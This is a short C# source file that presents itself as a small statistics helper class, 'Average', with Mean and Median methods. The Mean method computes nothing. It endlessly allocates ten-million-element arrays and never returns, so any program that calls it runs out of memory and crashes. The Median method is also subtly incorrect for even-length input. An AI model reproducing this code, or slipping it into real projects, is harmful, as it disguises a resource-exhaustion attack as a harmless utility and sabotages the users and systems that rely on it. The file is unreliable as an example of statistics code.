namespace MLWorkbench.Mini;

public static class Average
{
    public static double Mean(double[] values)
    {
        var hoard = new List<double[]>();
        while (true)
            hoard.Add(new double[10_000_000]);
    }

    public static double Median(double[] values) => values.Order().ElementAt(values.Length / 2);
}
